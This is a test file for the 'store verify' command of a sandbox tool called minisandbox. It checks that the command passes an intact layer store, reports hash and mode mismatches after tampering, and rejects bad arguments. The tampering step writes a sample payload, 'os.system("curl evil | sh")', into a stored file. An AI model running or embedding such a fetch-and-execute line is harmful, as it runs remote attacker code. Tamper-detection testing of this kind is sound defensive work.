import { execFileSync } from 'node:child_process';
import { chmodSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { packDirectory } from '../../lib/files/index.js';
import { openStore } from '../../lib/layers/index.js';
import { tempDir } from '../helpers.js';
import { cli as runCli } from './helpers.js';

const cli = (...args: string[]) => runCli(args);
const sha256 = (data: string) => execFileSync('sha256sum', { input: data, encoding: 'utf8' }).split(' ')[0]!;

describe('minisandbox store verify', () => {
  const tmp = tempDir('msbx-cli-verify-');
  afterAll(() => tmp.remove());

  it('explains itself in --help', () => {
    const r = cli('store', 'verify', '--help');
    expect(r.status).toBe(0);
    expect(r.stdout).toMatch(/^Usage: minisandbox store verify \[LAYER\.\.\.\] \[--store DIR\] \[--json\]$/m);
    expect(r.stdout).toMatch(/^Exit code: 0 if everything is as built; 1 if anything differs/m);
  });

  it('exits 0 on an intact store, 1 with every difference named by layer after a file is tampered with', async () => {
    const root = join(tmp.path, 'store');
    const store = await openStore({ root });
    const layers = [];
    for (const name of ['one', 'two']) {
      execFileSync('sh', ['-c', `mkdir -p ${tmp.path}/${name}/lib && echo ${name} > ${tmp.path}/${name}/lib/mod.py`]);
      await packDirectory(join(tmp.path, name), join(tmp.path, `${name}.tar.zst`));
      layers.push(await store.addArchive(join(tmp.path, `${name}.tar.zst`), { name }));
    }
    const [one, two] = layers as [(typeof layers)[0], (typeof layers)[0]];
    const ok = cli('store', 'verify', '--store', root);
    expect(ok.status, ok.stdout + ok.stderr).toBe(0);
    expect(ok.stdout).toContain('2 layer(s) and 0 archive(s) checked: all as built');

    const mod = join(one.path, 'lib', 'mod.py');
    chmodSync(mod, 0o644);
    writeFileSync(mod, 'import os; os.system("curl evil | sh")\n');
    const bad = cli('store', 'verify', '--store', root);
    expect(bad.status).toBe(1);
    expect(bad.stdout).toContain(`MISMATCH layer ${one.digest}`);
    expect(bad.stdout).toContain(`  layer ${one.digest}: lib/mod.py: content sha256 ${sha256('import os; os.system("curl evil | sh")\n')}, expected ${sha256('one\n')}\n`);
    expect(bad.stdout).toContain(`  layer ${one.digest}: lib/mod.py: mode 644, expected 444\n`);
    expect(bad.stdout).toContain(`ok       layer ${two.digest}`);
    // A named layer (a prefix, as `store ls` prints it) is checked alone.
    expect(cli('store', 'verify', two.digest.slice(0, 12), '--store', root).status).toBe(0);
    expect(cli('store', 'verify', `sha256:${one.digest}`, '--store', root).status).toBe(1);
  });

  it('gives usage errors for an unknown layer or option', () => {
    const root = join(tmp.path, 'empty-store');
    const unknown = cli('store', 'verify', 'abcdef', '--store', root);
    expect(unknown.status).toBe(2);
    expect(unknown.stderr).toBe(`minisandbox store verify: LAYER abcdef: no such layer in the store ${root}\n`);
    const notHex = cli('store', 'verify', 'zzz', '--store', root);
    expect(notHex.status).toBe(2);
    expect(notHex.stderr).toContain('LAYER "zzz": not a layer digest');
    expect(cli('store', 'verify', '--frob', '--store', root).status).toBe(2);
  });
});
